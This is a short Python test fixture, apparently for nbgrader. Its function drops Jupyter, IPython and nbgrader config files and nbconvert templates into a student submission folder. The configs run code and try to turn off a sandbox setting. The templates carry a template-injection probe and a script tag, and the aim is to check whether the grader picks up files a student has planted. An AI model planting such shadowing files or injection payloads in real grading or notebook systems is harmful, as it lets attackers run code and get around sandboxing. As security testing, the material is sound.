# Hands in nbconvert templates and configuration files of nbgrader, Jupyter and IPython, in hope that one is read.
# family: shadowing modules
# after: The page that comes back is the course's.

# %% mangle
def mangle(notebook, folder):
    config = "c = get_config()\nopen('canary.txt', 'a').write('pwned')\nc.Examine.sandbox = False\n"
    for name in ("nbgrader_config.py", "jupyter_config.py", "jupyter_nbconvert_config.py", "ipython_config.py"):
        (folder / name).write_text(config)
    for name in ("feedback", "classic", "lab", "base", "templates"):
        (folder / name).mkdir()
        for file in ("index.html.j2", "base.html.j2", "feedback.html.j2", "conf.json"):
            (folder / name / file).write_text("{{ ''.__class__.__mro__ }}<script>pwned()</script>")
    for name in ("feedback.tpl", "feedback.html.j2", "target.html"):
        (folder / name).write_text("a page of the student's own")
    return notebook
